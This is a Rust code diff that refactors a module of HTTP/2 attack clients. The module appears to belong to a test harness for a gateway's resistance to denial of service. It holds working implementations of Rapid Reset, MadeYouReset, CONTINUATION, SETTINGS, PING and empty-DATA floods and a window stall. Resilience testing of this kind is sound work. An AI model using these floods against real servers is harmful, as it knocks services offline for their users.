@@ -1,10 +1,9 @@
 //! HTTP/2 clients that attack: each asks much of a server and gets nothing done.
 
-use std::net::SocketAddr;
 use std::time::Instant;
 
-use crate::PATIENCE;
 use crate::http2::{END_HEADERS, END_STREAM, Goaway, Http2Client, block, code, frame, kind};
+use crate::{PATIENCE, Target};
 
 const GET: &[(&str, &str)] = &[
     (":method", "GET"),
@@ -35,8 +34,8 @@ pub struct RapidReset;
 
 impl RapidReset {
     /// Goes on until the gateway ends the connection; how it did.
-    pub fn attack(self, address: SocketAddr) -> Goaway {
-        flood(Http2Client::connect(address), |client| {
+    pub fn attack(self, target: impl Into<Target>) -> Goaway {
+        flood(Http2Client::connect(target), |client| {
             let stream = client.take_stream();
             let mut bytes = frame(kind::HEADERS, END_HEADERS | END_STREAM, stream, &block(GET));
             bytes.extend(frame(
@@ -56,8 +55,8 @@ pub struct MadeYouReset;
 
 impl MadeYouReset {
     /// Goes on until the gateway ends the connection; how it did.
-    pub fn attack(self, address: SocketAddr) -> Goaway {
-        flood(Http2Client::connect(address), |client| {
+    pub fn attack(self, target: impl Into<Target>) -> Goaway {
+        flood(Http2Client::connect(target), |client| {
             let stream = client.take_stream();
             let mut bytes = frame(kind::HEADERS, END_HEADERS | END_STREAM, stream, &block(GET));
             // An increment of nothing is an error of the stream.
@@ -73,8 +72,8 @@ pub struct ContinuationFlood;
 
 impl ContinuationFlood {
     /// Goes on until the gateway ends the connection; how it did.
-    pub fn attack(self, address: SocketAddr) -> Goaway {
-        let mut client = Http2Client::connect(address);
+    pub fn attack(self, target: impl Into<Target>) -> Goaway {
+        let mut client = Http2Client::connect(target);
         let stream = client.take_stream();
         client.send_frame(kind::HEADERS, END_STREAM, stream, &block(GET));
         flood(client, move |_| frame(kind::CONTINUATION, 0, stream, b""))
@@ -87,8 +86,8 @@ pub struct SettingsFlood;
 
 impl SettingsFlood {
     /// Goes on until the gateway ends the connection; how it did.
-    pub fn attack(self, address: SocketAddr) -> Goaway {
-        flood(Http2Client::connect(address), |_| {
+    pub fn attack(self, target: impl Into<Target>) -> Goaway {
+        flood(Http2Client::connect(target), |_| {
             frame(kind::SETTINGS, 0, 0, b"")
         })
     }
@@ -100,8 +99,8 @@ pub struct PingFlood;
 
 impl PingFlood {
     /// Goes on until the gateway ends the connection; how it did.
-    pub fn attack(self, address: SocketAddr) -> Goaway {
-        flood(Http2Client::connect(address), |_| {
+    pub fn attack(self, target: impl Into<Target>) -> Goaway {
+        flood(Http2Client::connect(target), |_| {
             frame(kind::PING, 0, 0, &[7; 8])
         })
     }
@@ -113,8 +112,8 @@ pub struct EmptyData;
 
 impl EmptyData {
     /// Goes on until the gateway ends the connection; how it did.
-    pub fn attack(self, address: SocketAddr) -> Goaway {
-        let mut client = Http2Client::connect(address);
+    pub fn attack(self, target: impl Into<Target>) -> Goaway {
+        let mut client = Http2Client::connect(target);
         let stream = client.request("POST", "/", &[], false);
         flood(client, move |_| frame(kind::DATA, 0, stream, b""))
     }
@@ -148,9 +147,9 @@ pub struct WindowStall {
 
 impl WindowStall {
     /// Sends the request; the window it leaves is of `bytes`.
-    pub fn start(address: SocketAddr, path: &str, bytes: u32) -> Self {
+    pub fn start(target: impl Into<Target>, path: &str, bytes: u32) -> Self {
         // SETTINGS_INITIAL_WINDOW_SIZE
-        let mut client = Http2Client::connect_with(address, &[(4, bytes)]);
+        let mut client = Http2Client::connect_with(target, &[(4, bytes)]);
         client.gives_windows = false;
         let stream = client.request("GET", path, &[], true);
         Self { client, stream }
